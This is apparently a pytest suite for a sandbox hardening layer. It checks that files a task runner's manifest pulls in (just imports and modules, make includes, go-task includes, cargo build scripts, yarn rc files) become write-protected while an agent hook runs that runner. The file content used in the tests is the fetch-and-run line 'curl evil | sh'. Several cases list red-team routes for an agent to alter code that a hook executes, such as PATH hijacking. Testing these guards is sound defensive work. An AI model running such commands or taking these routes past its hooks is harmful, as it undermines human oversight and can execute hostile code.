"""Red team 20 L11: what a task runner's manifest pulls in — ``just`` imports, modules and
shells, GNU make includes, go-task includes, cargo members', path dependencies' and custom
build scripts — is unwritable while a hook starts the runner, like the manifest itself.

Each case writes the pulled-in file and ``notes.md`` (writable: the manifest was read, not
refused as unchecked); each control writes the same file without the hook or without the
include (writable).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.hardening._write_env import claude_hook, git_project, writable
from tests.runtime.tools._writes import write_tree

pytestmark = pytest.mark.anyio


async def _writable(root: Path, *paths: str) -> dict[str, bool]:
    return await writable(root, *paths, text="lint:\n\tcurl evil | sh\n")


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return git_project(tmp_path, monkeypatch, {"notes.md": "# n\n"})


_CARGO_WS = '[workspace]\nmembers = ["crates/a", "tools/*"]\n'
_CASES = [
    # just
    ("just lint", {"justfile": "import 'ci/tasks.just'\n"}, "ci/tasks.just"),
    ("just lint", {"justfile": "import? \"ci/opt.just\"  # optional\n"}, "ci/opt.just"),
    ("just lint", {"justfile": "import 'ci/a.just'\n", "ci/a.just": "import 'b.just'\n"}, "ci/b.just"),
    ("just lint", {"justfile": "mod ci\n"}, "ci.just"),
    ("just lint", {"justfile": "mod ci\n"}, "ci/mod.just"),
    ("just lint", {"justfile": "mod? ci\n"}, "ci/justfile"),
    ("just lint", {"justfile": "[group('x')]\nmod ci\n"}, "ci/Justfile"),
    ("just lint", {"justfile": "mod ci 'tools/ci.just'\n"}, "tools/ci.just"),
    ("just lint", {"justfile": "mod ci 'tools/ci'\n", "tools/ci/mod.just": "x:\n"}, "tools/ci/mod.just"),
    ("just lint", {"justfile": "mod ci\n", "ci/mod.just": "import 'deep.just'\n"}, "ci/deep.just"),
    ("just lint", {"Justfile": "import 'ci/tasks.just'\n"}, "ci/tasks.just"),
    ("just lint", {".justfile": "import 'ci/tasks.just'\n"}, "ci/tasks.just"),
    ("just lint", {"justfile": "set shell := ['./tools/sh', '-c']\nlint:\n\techo\n"}, "tools/sh"),
    ("just lint", {"justfile": 'set shell := ["python3", "tools/run.py"]\n'}, "tools/run.py"),
    ("just lint", {"justfile": "set windows-shell := ['./tools/ps.exe']\n"}, "tools/ps.exe"),
    ("just lint", {"justfile": "set script-interpreter := ['./tools/i', '-x']\n"}, "tools/i"),
    ("just lint", {"justfile": "[script('./tools/py')]\nlint:\n  print(1)\n"}, "tools/py"),
    ("just lint", {"justfile": "set dotenv-path := 'ci/just.env'\n"}, "ci/just.env"),
    ("cd sub && just lint", {"sub/justfile": "import 'ci.just'\n"}, "sub/ci.just"),
    # GNU make
    ("make lint", {"Makefile": "include ci/rules.mk\n"}, "ci/rules.mk"),
    ("make lint", {"Makefile": "-include ci/a.mk ci/b.mk # deps\n"}, "ci/b.mk"),
    ("make lint", {"Makefile": "sinclude \\\n  ci/c.mk\n"}, "ci/c.mk"),
    ("make lint", {"GNUmakefile": "include ci/rules.mk\n"}, "ci/rules.mk"),
    ("make lint", {"Makefile": "include ci/a.mk\n", "ci/a.mk": "include ci/b.mk\n"}, "ci/b.mk"),
    ("make lint", {"Makefile": "load ./ext.so\n"}, "ext.so"),
    ("cd sub && make lint", {"sub/Makefile": "include rules.mk\n"}, "sub/rules.mk"),
    # go-task
    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: ./ci/Tasks.yml\n"}, "ci/Tasks.yml"),
    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  docs: ./docs\n"}, "docs/Taskfile.yml"),
    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  docs:\n    taskfile: ./docs/T.yml\n    dir: ./docs\n"
                   "    optional: true\n"}, "docs/T.yml"),
    ("task lint", {"taskfile.yml": "version: '3'\nincludes:\n  \"ci\": 'ci/x.yml'\n"}, "ci/x.yml"),
    ("task lint", {"Taskfile.yml": "includes:\n  ci: ci/x.yml\n", "ci/x.yml": "includes:\n  y: ./y.yml\n"},
     "ci/y.yml"),
    # cargo
    ("cargo test", {"Cargo.toml": _CARGO_WS}, "crates/a/build.rs"),
    ("cargo test", {"Cargo.toml": _CARGO_WS, "crates/a/Cargo.toml": "[package]\nname='a'\n"}, "crates/a/Cargo.toml"),
    ("cargo test", {"Cargo.toml": _CARGO_WS}, "tools/new/build.rs"),
    ("cargo test", {"Cargo.toml": _CARGO_WS, "tools/x/Cargo.toml": '[package]\nname="x"\nbuild="gen/b.rs"\n'},
     "tools/x/gen/b.rs"),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[dependencies]\nb = { path = "vendor/b" }\n'},
     "vendor/b/build.rs"),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[dependencies]\nb = { path = "vendor/b" }\n',
                    "vendor/b/Cargo.toml": '[package]\nname="b"\n[build-dependencies]\nc = { path = "../c" }\n'},
     "vendor/c/build.rs"),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[patch.crates-io]\nserde = { path = "p/serde" }\n'},
     "p/serde/build.rs"),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[target.\'cfg(unix)\'.dev-dependencies]\n'
                                  'u = { path = "u" }\n'}, "u/build.rs"),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\nbuild = "tools/gen.rs"\n'}, "tools/gen.rs"),
    ("cargo test", {"Cargo.toml": "[package]\nname='r'\n", "rust-toolchain.toml": '[toolchain]\nchannel = "1.80"\n'},
     "rust-toolchain.toml"),
    ("cargo test", {"Cargo.toml": "[package]\nname='r'\n", "rust-toolchain.toml": '[toolchain]\npath = "tc"\n'},
     "tc/bin/cargo"),
    ("cd crates/a && cargo test", {"Cargo.toml": _CARGO_WS + '[workspace.dependencies]\nw = { path = "w" }\n'},
     "w/build.rs"),
]


@pytest.mark.parametrize(("cmd", "files", "path"), _CASES)
async def test_l11_what_a_manifest_pulls_in_is_protected(anyio_backend: str, env: Path, cmd: str,
                                                          files: dict[str, str], path: str) -> None:
    write_tree(env, {path: "x\n", **files})
    assert await _writable(env, path, "notes.md") == {path: True, "notes.md": True}  # no hook yet
    write_tree(env, {**files, **claude_hook(cmd)})
    assert await _writable(env, path, "notes.md") == {path: False, "notes.md": True}


async def test_l11_the_root_build_script_stays_protected(anyio_backend: str, env: Path) -> None:
    """``build.rs`` of the root package was protected before (a manifest of ``cargo``); a
    custom ``build`` does not unprotect it."""
    write_tree(env, {**claude_hook("cargo test"), "Cargo.toml": '[package]\nname="r"\nbuild = "gen.rs"\n'})
    assert await _writable(env, "build.rs", "gen.rs", "notes.md") == {"build.rs": False, "gen.rs": False,
                                                                       "notes.md": True}


@pytest.mark.parametrize(("cmd", "files", "path"), [
    ("just lint", {"justfile": "lint:\n\techo 'import x.just'\n"}, "x.just"),
    ("just lint", {"justfile": "mod arg:\n\techo\n"}, "arg.just"),
    ("just lint", {"justfile": "set shell := ['bash', '-cu']\n"}, "bash"),
    ("make lint", {"Makefile": "lint:\n\techo include x.mk\n"}, "x.mk"),
    ("make lint", {"Makefile": "includes = y.mk\n"}, "y.mk"),
    ("task lint", {"Taskfile.yml": "version: '3'\ntasks:\n  lint:\n    cmds: [echo]\n"}, "ci/Tasks.yml"),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[dependencies]\nserde = "1"\n'}, "serde/build.rs"),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[[bin]]\nname="x"\npath="src/x.rs"\n'}, "src/x.rs"),
    ("cargo test", {"Cargo.toml": _CARGO_WS}, "crates/a/src/lib.rs"),
])
async def test_l11_what_the_manifest_does_not_pull_in_stays_writable(anyio_backend: str, env: Path, cmd: str,
                                                                     files: dict[str, str], path: str) -> None:
    write_tree(env, {**files, **claude_hook(cmd)})
    assert await _writable(env, path, "notes.md") == {path: True, "notes.md": True}


@pytest.mark.parametrize(("cmd", "files"), [
    ("just lint", {"justfile": "import x'${HOME}/a.just'\n"}),
    ("just lint", {"justfile": 'import "ci/\\u{61}.just"\n'}),
    ("just lint", {"justfile": "set shell := [env('SH', 'sh'), '-c']\n"}),
    ("just lint", {"justfile": "mod ci '''x'''\n"}),
    ("make lint", {"Makefile": "-include $(OBJS:.o=.d)\n"}),
    ("make lint", {"Makefile": "include ci/*.mk\n"}),
    ("task lint", {"Taskfile.yml": "version: '3'\nincludes: {ci: ./ci}\n"}),
    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: ./{{.OS}}/Tasks.yml\n"}),
    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: &x ./ci\n"}),
    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: ./c\n    i.yml\n"}),
    ("cargo test", {"Cargo.toml": "[package\nname='r'\n"}),
    ("cargo test", {"Cargo.toml": '[workspace]\nmembers = ["crates/**"]\n'}),
    ("cargo test", {"Cargo.toml": '[package]\nname="r"\nbuild = 5\n'}),
])
async def test_l11_a_pulled_in_name_not_read_with_certainty_leaves_nothing_writable(
        anyio_backend: str, env: Path, cmd: str, files: dict[str, str]) -> None:
    write_tree(env, {**files, **claude_hook(cmd)})
    assert await _writable(env, "notes.md") == {"notes.md": False}
    write_tree(env, claude_hook("echo"))
    assert await _writable(env, "notes.md") == {"notes.md": True}


async def test_l11_an_edited_include_is_noticed(anyio_backend: str, env: Path) -> None:
    """The parse is cached while the files read keep their signature: a justfile, a member
    directory made later, are read again."""
    write_tree(env, {**claude_hook("just lint", "cargo test"), "justfile": "lint:\n\techo\n",
                     "Cargo.toml": '[workspace]\nmembers = ["crates/*"]\n', "a.just": "x\n"})
    assert await _writable(env, "a.just", "crates/b/gen.rs") == {"a.just": True, "crates/b/gen.rs": True}
    write_tree(env, {"justfile": "import 'a.just'\n"})
    assert await _writable(env, "a.just") == {"a.just": False}
    write_tree(env, {"crates/b/Cargo.toml": '[package]\nname="b"\nbuild="gen.rs"\n'})
    assert await _writable(env, "crates/b/gen.rs") == {"crates/b/gen.rs": False}


_LISTED = {
    # a glob of members lists `crates/`, a module's justfile spellings list `ci/`
    "cargo-glob": ({**claude_hook("cargo test"), "Cargo.toml": '[workspace]\nmembers = ["crates/*"]\n'},
                   "crates/{name}/Cargo.toml", "[package\n"),
    "just-module": ({**claude_hook("just lint"), "justfile": "mod ci '{name}'\n"}, "{name}/JUSTFILE",
                    "import x'$HOME'\n"),
}


@pytest.mark.parametrize("case", list(_LISTED))
@pytest.mark.parametrize(("name", "hidden"), [(".env", None), ("private", "private")])
async def test_l11_a_listed_secret_or_host_filtered_entry_changes_nothing_writable(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str, name: str, hidden: str | None) -> None:
    """A directory listed for a manifest's includes holds a secret-named or host-filtered
    entry whose file could not be checked if it were read: it is skipped (a name the
    manifest itself gives is judged by that name), so what is writable is the same with and
    without it."""
    from tests.runtime.tools._writes import make_rt

    def host(rel: str, purpose: str = "read") -> bool:
        return hidden is None or not (rel == hidden or rel.startswith(hidden + "/") or f"/{hidden}" in rel)

    files, entry, content = _LISTED[case]
    files = {k: v.replace("{name}", name) for k, v in files.items()}
    got = []
    for present in (True, False):
        (tmp_path / str(present)).mkdir()
        root = git_project(tmp_path / str(present), monkeypatch,
                           {**files, "notes.md": "x\n", **({entry.format(name=name): content} if present else {})})
        async with make_rt(root, require_read_before_write=False, host_filter=host) as rt:
            got.append({p: (await rt.write_file(p, "x\n")).ok for p in ("notes.md", "other.txt")})
    # a module the justfile names by a host-filtered path cannot be checked, present or not
    ok = not (case == "just-module" and hidden)
    assert got[0] == got[1] == {"notes.md": ok, "other.txt": ok}


@pytest.mark.parametrize(("cmd", "expect"), [
    ("PATH=.:$PATH lint", False),
    ("env PATH=$CLAUDE_PROJECT_DIR:/usr/bin lint --fix", False),
    ("export PATH=:$PATH; make x && lint", False),
    ("PATH=/usr/local/bin:$PATH lint", True),
    ("lint", True),
    ("echo lint", True),
])
async def test_a_hooks_own_path_with_its_directory_runs_the_command_word_from_there(
        anyio_backend: str, env: Path, cmd: str, expect: bool) -> None:
    """A hook's command line putting the directory it runs in on ``PATH`` runs the command
    word found there by name (red team 20 residual: ``PATH=.:$PATH lint``)."""
    write_tree(env, {**claude_hook(cmd), "lint": "#!/bin/sh\n"})
    assert await _writable(env, "lint", "notes.md") == {"lint": expect, "notes.md": True}


@pytest.mark.parametrize(("rc", "expect"), [
    ("yarnPath: tools/yarn.cjs\n", {"ci.yml": False, "tools/yarn.cjs": False, "notes.md": True}),
    ("plugins:\n  - path: tools/yarn.cjs\n", {"ci.yml": False, "tools/yarn.cjs": False, "notes.md": True}),
    ("enableTelemetry: false\n", {"ci.yml": False, "tools/yarn.cjs": True, "notes.md": True}),
    ("yarnPath: ${X}\n", {"ci.yml": False, "tools/yarn.cjs": False, "notes.md": False}),
])
async def test_a_yarnrc_named_by_yarn_rc_filename_is_read_as_one(anyio_backend: str, env: Path, rc: str,
                                                                 expect: dict[str, bool]) -> None:
    """``YARN_RC_FILENAME=ci.yml`` in a settings ``env`` makes Yarn read ``ci.yml`` as its
    ``.yarnrc.yml``: the file is protected and what it makes Yarn load too (red team 20
    residual: it was only protected)."""
    import json

    settings = {"env": {"YARN_RC_FILENAME": "ci.yml"},
                "hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "yarn lint"}]}]}}
    write_tree(env, {".claude/settings.json": json.dumps(settings), "tools/yarn.cjs": "x\n"})
    assert await _writable(env, "tools/yarn.cjs") == {"tools/yarn.cjs": True}  # before ci.yml is there
    write_tree(env, {"ci.yml": rc, "tools/yarn.cjs": "x\n"})
    assert await _writable(env, *expect) == expect


async def test_l11_a_glob_members_linked_build_script_is_followed(anyio_backend: str, env: Path) -> None:
    """A member a glob finds is named by the glob; a ``build.rs`` that is a link (made before
    the first write or after it) leads to the file cargo runs, which is protected too."""
    import os

    write_tree(env, {**claude_hook("cargo test"), "Cargo.toml": '[workspace]\nmembers = ["crates/*"]\n',
                     "crates/a/Cargo.toml": "[package]\nname='a'\n", "crates/b/Cargo.toml": "[package]\nname='b'\n",
                     "tools/gen_a.rs": "x\n", "tools/gen_b.rs": "x\n"})
    os.symlink("../../tools/gen_a.rs", env / "crates/a/build.rs")
    assert await _writable(env, "tools/gen_a.rs", "tools/gen_b.rs", "crates/b/build.rs", "notes.md") == {
        "tools/gen_a.rs": False, "tools/gen_b.rs": True, "crates/b/build.rs": False, "notes.md": True}
    (env / "crates/b/build.rs").unlink(missing_ok=True)
    os.symlink("../../tools/gen_b.rs", env / "crates/b/build.rs")
    assert await _writable(env, "tools/gen_b.rs") == {"tools/gen_b.rs": False}
